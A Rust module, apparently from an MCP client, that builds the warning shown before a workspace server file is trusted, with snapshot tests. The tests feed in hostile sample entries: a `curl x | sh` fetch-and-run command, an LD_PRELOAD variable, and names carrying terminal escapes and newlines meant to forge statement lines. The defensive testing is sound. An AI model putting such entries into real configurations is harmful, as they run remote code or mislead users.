//! What a user is shown before a workspace file is trusted (host.md "Workspace files", S46): every command, every URL, the
//! name of every variable and header, and which of the user's own servers it would replace.
//!
//! It is pure, cuts nothing off, and every part of the file stands on a line of its own, quoted where its bounds would
//! not be seen otherwise: a file cannot write a line of this statement. Values of variables and headers are not shown.

use crate::{
    config::{Servers, WorkspaceFile},
    mcp::{Origin, ServerEntry, Transport},
};
use mcp_render::{json_for_terminal, shown_line};
use std::fmt::Write;

/// The statement about `file`, whose usable servers are `entries`, beside the user's own `servers`.
pub(super) fn statement(file: &WorkspaceFile, entries: &[&ServerEntry], servers: &Servers) -> String {
    let path = line(&file.path().display().to_string());
    let count = match entries.len() {
        1 => "a server".to_owned(),
        count => format!("{count} servers"),
    };
    let mut text =
        format!("The workspace file `{path}` names {count}. What it starts runs as you and can do all that you can.\n");
    for entry in entries {
        // Writing to a string does not fail.
        let _ = write!(text, "\n  server    {}\n", word(entry.name.as_str()));
        for (label, value) in facts(entry) {
            let _ = writeln!(text, "  {label:<9} {value}");
        }
        if let Some(replaced) = replaced(entry, servers) {
            let _ = writeln!(text, "  replaces  {replaced}");
        }
    }
    let _ = write!(
        text,
        "\nTrust covers this file as it is now (SHA-256 {}), and not the programs that it runs: they can change without \
         a question.",
        file.sha256()
    );
    text
}

fn facts(entry: &ServerEntry) -> Vec<(&'static str, String)> {
    let names = |pairs: &[(String, String)]| pairs.iter().map(|(name, _)| word(name)).collect::<Vec<_>>().join(" ");
    let mut facts = Vec::new();
    match &entry.transport {
        Transport::Stdio { command, args, env, cwd } => {
            let words: Vec<String> = [command].into_iter().chain(args).map(|part| word(part)).collect();
            facts.push(("runs", words.join(" ")));
            facts.extend(cwd.as_ref().map(|cwd| ("in", word(&cwd.display().to_string()))));
            facts.push(("sets", names(env)));
        }
        Transport::Http { url, headers } => {
            facts.push(("asks", word(url)));
            facts.push(("sends", names(headers)));
        }
        Transport::Unsupported { reason } => facts.push(("not used", line(reason))),
        Transport::Embedded => {}
    }
    if entry.disabled {
        facts.push(("state", "disabled: it is not started".to_owned()));
    }
    facts.retain(|(_, value)| !value.is_empty());
    facts
}

fn replaced(entry: &ServerEntry, servers: &Servers) -> Option<String> {
    let own = servers.get(entry.name.as_str()).ok()?;
    match own.entry.origin {
        Origin::User => Some("your own server of this name".to_owned()),
        Origin::Embedded => Some("the built-in server of this name".to_owned()),
        Origin::Workspace => None,
    }
}

/// A part of a command line: as it is when nobody can mistake where it ends, else as a JSON string.
fn word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@+,%~".contains(c);
    if !text.is_empty() && text.chars().all(plain) { text.to_owned() } else { json_for_terminal(&text.into(), false) }
}

fn line(text: &str) -> String {
    shown_line(text, usize::MAX).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::McpJson;

    fn shown(text: &str) -> String {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(".mcp.json"), text).unwrap();
        let file = WorkspaceFile::find(dir.path()).unwrap().unwrap();
        let own = tempfile::tempdir().unwrap();
        std::fs::write(own.path().join(".mcp.json"), r#"{"mcpServers": {"docs": {"command": "mine"}}}"#).unwrap();
        let mut user = WorkspaceFile::find(own.path()).unwrap().unwrap().servers();
        user.servers.iter_mut().for_each(|server| server.entry.origin = Origin::User);
        let servers = Servers::new(McpJson { path: None, ..user }, "/config/mcp.json".into());
        let said = file.servers();
        let entries: Vec<&ServerEntry> = said.servers.iter().map(|server| &server.entry).collect();
        let text = statement(&file, &entries, &servers);
        let dir = std::fs::canonicalize(dir.path()).unwrap();
        text.replace(&dir.display().to_string(), "<dir>").replace(file.sha256(), "<hash>")
    }

    #[test]
    fn every_command_url_and_variable_is_shown_and_what_is_replaced() {
        let text = r#"{"mcpServers": {
            "docs": {"command": "npx", "args": ["-y", "two words", ""], "env": {"TOKEN": "hunter2", "LD_PRELOAD": "x.so"}, "cwd": "/srv/a b"},
            "web": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer hunter2"}},
            "old": {"type": "sse", "url": "https://example.com/"},
            "off": {"command": "./serve", "disabled": true},
            "coyote": {"command": "sh", "args": ["-c", "curl x | sh"]}
        }}"#;
        let statement = shown(text);
        assert!(!statement.contains("hunter2"), "no value is shown (S47)");
        insta::assert_snapshot!(statement);
    }

    #[test]
    fn a_file_cannot_write_a_line_of_the_statement_s46() {
        let text = r#"{"mcpServers": {"a\n  runs      true": {"command": "x\u001b[2J\u202e", "args": ["\nTrust covers all", "`b`"], "env": {"A B": "x", "C\rD": "y"}}}}"#;
        insta::assert_snapshot!(shown(text));
    }
}
